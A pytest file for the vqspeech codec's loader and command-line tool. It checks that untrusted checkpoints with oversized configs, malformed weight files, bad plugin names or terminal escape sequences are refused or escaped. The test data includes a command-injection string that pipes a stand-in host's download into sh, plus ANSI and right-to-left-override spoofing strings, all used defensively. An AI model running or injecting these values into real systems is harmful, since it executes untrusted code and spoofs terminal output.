"""Checkpoints of strangers: they exhaust nothing, advise nothing, and do not reach the terminal."""

import json

import pytest
import torch
from tiny import save_codec
from typer.testing import CliRunner

from vqspeech.checkpoints.budget import limited
from vqspeech.checkpoints.directory import CHECKSUMS
from vqspeech.cli.main import app
from vqspeech.codec.load import load
from vqspeech.errors import CheckpointError


@pytest.fixture
def model(tmp_path):
    """A tiny checkpoint without checksums; ``change(path, facts)`` edits its config.json."""
    path = save_codec(tmp_path / "run").path
    (path / CHECKSUMS).unlink()
    return path


def change(path, edit):
    facts = json.loads((path / "config.json").read_text())
    edit(facts)
    (path / "config.json").write_text(json.dumps(facts))


def run(*arguments):
    return CliRunner().invoke(app, [str(one) for one in arguments])


@pytest.mark.parametrize(
    "table, values",
    [
        ("decoder", {"layers_per_cycle": 2**30}),
        ("decoder", {"cycles": 2**30}),
        ("decoder", {"residual_channels": 10**6}),
        ("decoder", {"kernel_size": 2**31 - 1}),
        ("encoder", {"channels": 10**5}),
        ("encoder", {"dim": 10**6}),
        ("encoder", {"strides": [[2**30, 2**29]]}),
        ("encoder", {"residual_dilations": [1] * 60_000}),
        ("quantizer", {"codebook_size": 2**31 - 1}),
        ("quantizer", {"name": "rvq", "codebook_size": 16, "codebooks": 2**30}),
    ],
)
def test_a_model_far_larger_than_its_weights_is_refused_before_it_is_built(model, table, values):
    change(model, lambda facts: facts["model"][table].update(values))
    with pytest.raises(CheckpointError, match=r"config\.json|size mismatch"):
        load(model)


def test_many_speakers_are_refused_before_their_embedding_is_made(model):
    change(model, lambda facts: facts.update(speakers=[f"p{n}" for n in range(10**5)]))
    with pytest.raises(CheckpointError):
        load(model)


def test_the_limit_is_on_each_tensor_and_on_their_number(model):
    weights = model / "model.safetensors"
    with limited(weights):
        torch.nn.Linear(100, 100)
        torch.full((10_000,), 10_000)
        torch.full(size=(10_000,), fill_value=10_000)
        torch.eye(10)
    with pytest.raises(CheckpointError, match="far larger than its weights"), limited(weights):
        torch.zeros(2**20, 2**20)
    for size in ((2**40,), [2**20, 2**20]):
        with pytest.raises(CheckpointError, match="far larger than its weights"), limited(weights):
            torch.full(size, 1.0)
    with pytest.raises(CheckpointError, match="far larger than its weights"), limited(weights):
        torch.eye(2**20)
    with pytest.raises(CheckpointError, match="far larger than its weights"), limited(weights):
        torch.nn.ParameterList(torch.nn.Parameter(torch.empty(1)) for _ in range(10**6))


@pytest.mark.parametrize(
    "content", [b"", b"\xff" * 8, (2**40).to_bytes(8, "little") + b"{", b"\x02" + b"\0" * 7 + b"[]"]
)
def test_what_is_no_safetensors_is_refused(model, content):
    (model / "model.safetensors").write_bytes(content)
    with pytest.raises(CheckpointError, match=r"model\.safetensors cannot be loaded"):
        load(model)


EVIL = "evil; curl http://e/x|sh #"


@pytest.mark.parametrize("name", [EVIL, "a b", "-r requirements.txt", "git+https://e/x", "", "\x1b[2J"])
def test_nothing_is_advised_that_is_no_name_of_a_distribution(model, name):
    change(model, lambda facts: facts["plugins"]["quantizer"].update(name="x", distribution=name))
    result = run("encode", model, model, "--out", model.parent / "out.parquet")
    assert result.exit_code == 2
    assert "pip install" not in result.stderr and "cannot be the name of one" in result.stderr
    assert "\x1b" not in result.stderr


def test_the_checkpoint_is_named_as_the_source_of_a_plugin(model):
    change(model, lambda facts: facts["plugins"]["quantizer"].update(name="x", distribution="nobodys-vq"))
    result = run("encode", model, model, "--out", model.parent / "out.parquet")
    assert result.exit_code == 2
    assert "pip install nobodys-vq" in result.stderr
    assert "The checkpoint names that distribution, not vqspeech" in result.stderr


def test_names_reach_the_terminal_escaped_and_on_one_line(model):
    change(model, lambda facts: facts.update(speakers=["\x1b[2J\x1b]0;pwn\x07p0", "p1\n2 fake", "\u202etxt.exe", "é"]))
    result = run("speakers", model)
    assert result.stdout.splitlines() == [r"\u001b[2J\u001b]0;pwn\u0007p0", r"p1\u000a2 fake", r"\u202etxt.exe", "é"]
    result = run("convert", model, model, "--speaker", "x\x1b[2J", "--out", model.parent / "o.wav")
    assert result.exit_code == 2 and "\x1b" not in result.output
    assert json.loads(run("speakers", model, "--json").stdout)[1] == "p1\n2 fake"


def test_info_of_a_checkpoint_without_plugins_and_with_odd_metrics(model):
    change(model, lambda facts: facts.pop("plugins"))
    for row in (
        '{"step":1,"seconds":2}',
        '{"step":"x","seconds":2,"split":"valid"}',
        '{"step":1,"seconds":null}',
        "[]",
    ):
        (model.parents[1] / "metrics.jsonl").write_text(row)
        result = run("info", model.parents[1])
        assert result.exit_code == 0, result.output
        assert "validation   none" in result.stdout
